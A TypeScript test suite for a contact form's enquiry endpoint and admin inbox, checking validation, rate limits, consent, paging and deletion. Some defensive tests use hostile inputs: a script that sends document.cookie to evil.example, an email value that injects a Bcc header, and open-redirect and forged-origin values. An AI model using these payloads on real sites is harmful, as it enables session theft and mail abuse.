// Past 300 lines: one enquiry, from the form in both its shapes to the inbox.
import {
  elapsedField,
  enquiryRecord,
  enquirySummary,
  enquiryTooQuick,
  honeypotField,
  limits,
  privacyVersion,
  ventures,
  type VentureId,
} from '@portal/contract';
import { describe, expect, it } from 'vitest';
import { cms, freshAddress, json, urlencoded, visitor } from './connection.ts';
import type { Reply } from './sender.ts';
import { currentRevision, expectFailure } from './records.ts';
import { administrator } from './session.ts';

type Fields = Readonly<Record<string, unknown>>;

const enquiry = {
  name: 'Kavitha S',
  email: 'kavitha@example.com',
  phone: '+91 98400 00000',
  enquiry: 'Arun Eats',
  message: 'Do you cater for a wedding\nof 200 guests?',
  subject: 'Festive thali',
};

/** Sends the form as its script does. @param over fields that are other than usual */
const post = (over: Fields = {}, headers: Record<string, string> = {}, from = freshAddress()) =>
  visitor('POST', '/contact/send', { body: json({ ...enquiry, ...over }), from, headers });

/** Sends it as a browser does without its script. */
const postForm = (over: Record<string, string> = {}, from = freshAddress(), origin = cms.siteOrigin) =>
  visitor('POST', '/contact/send', {
    body: urlencoded({ ...enquiry, ...over }),
    from,
    headers: { origin, accept: 'text/html,application/xhtml+xml' },
  });

/** The newest enquiries. */
const inbox = async (query = '') =>
  enquiryRecord.array().parse((await administrator('GET', `/enquiries${query}`)).json);
const summary = async () => enquirySummary.parse((await administrator('GET', '/enquiries/summary')).json);

/** Does something, and holds that the inbox has so many enquiries more after it. */
async function adding<T>(count: number, act: () => Promise<T>): Promise<T> {
  const { total } = await summary();
  const answer = await act();
  expect((await summary()).total).toBe(total + count);
  return answer;
}

/** Sends an enquiry and answers the stored one. */
async function stored(over: Fields = {}) {
  const reply = await post(over);
  expect(reply.status, reply.text).toBe(200);
  expect(reply.json).toEqual({ status: true });
  const [newest] = await inbox();
  if (newest === undefined) throw new Error('The inbox is empty.');
  return newest;
}

const isJustNow = (time: string | null | undefined): void =>
  expect(Math.abs(Date.now() - Date.parse(time ?? ''))).toBeLessThan(60_000);

/** The tags of the forms, and the site that each belongs to; two of them are written in the specification. */
const tags: readonly (readonly [tag: string, venture: VentureId])[] = [
  ['ArunGrit', 'grit'],
  ['Arun Eats', 'eats'],
  [ventures.institute.enquiryTag, 'institute'],
  [ventures.infra.enquiryTag, 'infra'],
  [ventures.agri.enquiryTag, 'agri'],
  [ventures.agri.enquiryTagAfterReset, 'agri'],
  [ventures.group.enquiryTag, 'group'],
];

describe('an enquiry', () => {
  it('that comes again with its key is stored once, and costs no second try', async () => {
    const from = freshAddress();
    const sendAs = async (key: string) => {
      const reply = await post({}, { 'idempotency-key': key }, from);
      expect(reply.status, reply.text).toBe(200);
      expect(reply.json).toEqual({ status: true });
    };
    await adding(1, async () => {
      for (let count = 0; count <= limits.enquiries; count += 1) await sendAs('one enquiry');
    });
    await adding(1, () => sendAs('another enquiry'));
    await adding(1, () => Promise.all(['at once', 'at once', 'at once'].map(sendAs)));
  });

  it.each(tags)('with the tag %s belongs to %s, from either form', async (tag, venture) => {
    const revision = await currentRevision();
    const record = await stored({ enquiry: tag });
    const state = { state: 'new', mail: 'none', mailFailure: '' };
    expect(record).toMatchObject({ ...enquiry, ...state, enquiry: tag, venture });
    isJustNow(record.createdAt);
    expect(await currentRevision()).toBe(revision);

    const reply = await adding(1, () => postForm({ enquiry: tag, consent: privacyVersion }));
    expect(reply.status, reply.text).toBe(303);
    expect(reply.headers.location).toBe(`${cms.siteOrigin}${ventures[venture].contact}-thanks`);
    expect((await inbox())[0]).toMatchObject({ name: enquiry.name, venture, consent: privacyVersion });

    const withoutPhone = await post({ enquiry: tag, phone: ' ' });
    if (venture === 'institute' || venture === 'grit')
      expect(expectFailure(withoutPhone, 400).fields).toHaveProperty('phone');
    else expect(withoutPhone.status, withoutPhone.text).toBe(200);
  });

  it('resets the agri tag to one that differs slightly', () => {
    const { enquiryTag, enquiryTagAfterReset } = ventures.agri;
    expect(enquiryTagAfterReset).not.toBe(enquiryTag);
    expect(enquiryTagAfterReset.replaceAll(' ', '')).toBe(enquiryTag.replaceAll(' ', ''));
  });

  it.each(['Something else', '', undefined, null])('with the tag %j is not lost', async (tag) => {
    expect(await stored({ enquiry: tag })).toMatchObject({ venture: 'group', enquiry: tag ?? '' });
  });

  const blanks = [undefined, '', '   ', null];
  it.each([
    ['name', [...blanks, 'x'.repeat(limits.shortText + 1)]],
    ['email', [...blanks, 'nobody', 'a@b', 'a@example.com\r\nBcc: everyone@example.com', 'a@b.in, c@d.in']],
    ['message', [...blanks, 'x'.repeat(limits.longText + 1)]],
    ['phone', ['x'.repeat(limits.shortText + 1)]],
    ['enquiry', ['x'.repeat(limits.shortText + 1)]],
    [elapsedField, [0, limits.enquiryMinimumMs - 1, -1]],
  ])('is not stored with a wrong %s, which is named', async (field, values) => {
    await adding(0, async () => {
      for (const value of values) {
        const told = expectFailure(await post({ [field]: value }), 400);
        expect(told.fields, String(value)).toHaveProperty(field);
        if (field === elapsedField) expect(told.error).toBe(enquiryTooQuick);
        if (field === 'email' && !blanks.some((blank) => blank === value))
          expect(told.error).toBe('Please enter a valid email address.');
      }
    });
  });

  it('keeps texts to their full length, script as text, trimmed', async () => {
    const long = (length: number): string => 'அ'.repeat(length);
    const most = { name: long(255), phone: long(255), enquiry: long(255), message: long(10_000) };
    expect(await stored(most)).toMatchObject(most);
    const script = '<script>fetch("//evil.example/?"+document.cookie)</script>';
    const texts = { name: script, message: script };
    expect(await stored({ name: ` ${script} `, message: script })).toMatchObject(texts);
  });

  it('cannot choose what the inbox says of it', async () => {
    const forged = { id: 1, state: 'done', venture: 'infra', createdAt: '2001-01-01T00:00:00Z' };
    const record = await stored(forged);
    expect(record).toMatchObject({ state: 'new', venture: 'eats' });
    isJustNow(record.createdAt);
  });

  it('keeps which privacy notice was agreed to, and when, or is taken without', async () => {
    const agreed = await stored({ consent: privacyVersion, consentAt: '2001-01-01T00:00:00Z' });
    expect(agreed.consent).toBe(privacyVersion);
    isJustNow(agreed.consentAt);
    for (const consent of [undefined, null, '', 'yes', true, '1999-01-01'])
      expect(await stored({ consent })).toMatchObject({ consent: '', consentAt: null });
  });

  it('of a robot that fills the hidden field is thanked and forgotten', async () => {
    const reply = await adding(0, () => post({ [honeypotField]: 'https://casino.example' }));
    expect([reply.status, reply.json]).toEqual([200, { status: true }]);
  });

  it('that took its time is taken; one without script is never asked', async () => {
    await stored({ [elapsedField]: limits.enquiryMinimumMs });
    expect((await postForm({ [elapsedField]: '' })).status).toBe(303);
  });

  it.each(['the script', 'a browser'])(
    'of %s is one of five that an address may send for a while, whatever a header says',
    async (by) => {
      const from = freshAddress();
      const sendNext = (index: number): Promise<Reply> =>
        by === 'the script'
          ? post({}, { 'x-forwarded-for': `203.0.113.${index}` }, from)
          : postForm({}, from);
      for (let sent = 0; sent < limits.enquiries; sent += 1)
        expect((await sendNext(sent)).status).toBeLessThan(400);
      const reply = await adding(0, () => sendNext(limits.enquiries));
      const sentence = /Too many tries\. Please wait \d+ (seconds|minutes) and try again\./;
      expect(reply.status).toBe(429);
      expect(reply.text).toMatch(sentence);
      expect(reply.headers['content-type']).toContain(by === 'the script' ? 'application/json' : 'text/html');
      const wait = Number(reply.headers['retry-after']);
      expect(wait).toBeGreaterThan(0);
      expect(wait).toBeLessThanOrEqual(limits.enquiryWindowMs / 1000);
      expect((await post()).status).toBe(200);
    },
  );
});

describe('an ordinary form post', () => {
  it('that cannot be taken says why on a page, and runs nothing that it was sent', async () => {
    const reply = await postForm({ message: '', name: '<script>alert(1)</script>' });
    expect(reply.status).toBe(400);
    expect(reply.headers['content-type']).toMatch(/^text\/html/);
    expect(reply.text).toContain('Please write a message.');
    expect(reply.text).not.toContain('<script>alert');
    expect(reply.text).toContain(ventures.eats.contact);
  });

  it('sends no one anywhere else, and comes from no other site', async () => {
    const reply = await postForm({ redirect: '//evil.example', next: 'http://evil.example' });
    expect(reply.headers.location?.startsWith(`${cms.siteOrigin}/`)).toBe(true);
    expect((await postForm({}, freshAddress(), 'http://evil.example')).status).toBe(403);
  });
});

describe('the inbox', () => {
  const oneCall = (method: string, id: number, body?: object): Promise<Reply> =>
    administrator(method, `/enquiries/${id}`, body === undefined ? {} : { body: json(body) });

  it('has the newest first, and answers one as it lists it', async () => {
    const ids = [(await stored()).id, (await stored()).id];
    const listed = await inbox();
    expect(listed.slice(0, 2).map(({ id }) => id)).toEqual(ids.toReversed());
    expect(enquiryRecord.parse((await oneCall('GET', ids[1] ?? 0)).json)).toEqual(listed[0]);
  });

  it('is told in numbers, which change with it', async () => {
    const record = await stored();
    const all = await inbox(`?limit=${limits.enquiryPageMost}`);
    const first = await summary();
    expect(first, 'more than one page: please page here').toEqual({
      total: all.length,
      new: all.filter(({ state }) => state === 'new').length,
      answered: all.filter(({ state }) => state === 'answered').length,
      waiting: all.filter(({ mail }) => mail === 'waiting').length,
      failed: all.filter(({ mail }) => mail === 'failed').length,
      changedAt: all
        .map(({ updatedAt }) => updatedAt)
        .toSorted()
        .at(-1),
      mail: 'off',
    });
    await oneCall('PUT', record.id, { state: 'answered' });
    const marked = await summary();
    expect(marked).toEqual({
      ...first,
      new: first.new - 1,
      answered: first.answered + 1,
      changedAt: marked.changedAt,
    });
    expect(Date.parse(marked.changedAt ?? '')).toBeGreaterThan(Date.parse(first.changedAt ?? ''));
    await oneCall('DELETE', record.id);
    expect(await summary()).toMatchObject({ total: all.length - 1, new: marked.new });
  });

  it('comes in pages, and no enquiry is left out or comes twice', async () => {
    while ((await summary()).total <= limits.enquiryPage) await stored();
    const page = await inbox();
    expect(page).toHaveLength(limits.enquiryPage);
    const found = page.map(({ id }) => id);
    for (let next = page; next.length > 0;) {
      next = await inbox(`?limit=17&before=${found.at(-1)}`);
      found.push(...next.map(({ id }) => id));
    }
    expect(found).toEqual([...new Set(found)].toSorted((one, other) => other - one));
    expect(found).toHaveLength((await summary()).total);
  });

  it.each(['limit=0', 'limit=201', 'limit=ten', 'limit=1.5', 'before=0', 'before=x', 'limit=1&limit=2'])(
    'says what is wrong with ?%s',
    async (query) => {
      const told = expectFailure(await administrator('GET', `/enquiries?${query}`), 400);
      expect(told.fields).toHaveProperty(query.slice(0, query.indexOf('=')));
    },
  );

  it('says of an enquiry what was done about it, and changes nothing else of it', async () => {
    const { id, message, name } = await stored();
    const revision = await currentRevision();
    for (const state of ['answered', 'done', 'new']) {
      const reply = await oneCall('PUT', id, { state, name: 'Somebody else', message: 'Something else' });
      expect(reply.status, reply.text).toBe(200);
      expect(reply.json).toMatchObject({ id, status: true, state, name, message });
    }
    for (const state of [undefined, 'read', 1, null])
      expectFailure(await oneCall('PUT', id, { state }), 400, 'Please choose new, answered or done.');
    expect(await currentRevision()).toBe(revision);
  });

  it('deletes one or several enquiries, of which some may have gone already', async () => {
    const deleteMany = (ids: unknown) => administrator('POST', '/enquiries/delete', { body: json({ ids }) });
    const [kept, first, second] = [await stored(), await stored(), await stored()];
    const revision = await currentRevision();
    const reply = await adding(-1, () => oneCall('DELETE', first.id));
    expect([reply.status, reply.json]).toEqual([200, { status: true, id: first.id }]);
    expectFailure(await oneCall('GET', first.id), 404);
    const several = await adding(-1, () => deleteMany([first.id, second.id]));
    expect([several.status, several.json]).toEqual([200, { status: true }]);
    expect((await inbox())[0]?.id).toBe(kept.id);
    const tooMany = Array.from({ length: limits.enquiryPageMost + 1 }, (_, index) => index + 1);
    await adding(0, async () => {
      for (const wrong of [undefined, [], tooMany, ['1'], [0], [1.5], 'all', null])
        expectFailure(await deleteMany(wrong), 400, 'Please choose from 1 to 200 enquiries.');
    });
    expect(await currentRevision()).toBe(revision);
  });

  it('is not part of the content', async () => {
    await stored();
    const { text } = await visitor('GET', '/content');
    expect(text).not.toMatch(new RegExp(`${enquiry.email}|enquiries`));
  });
});
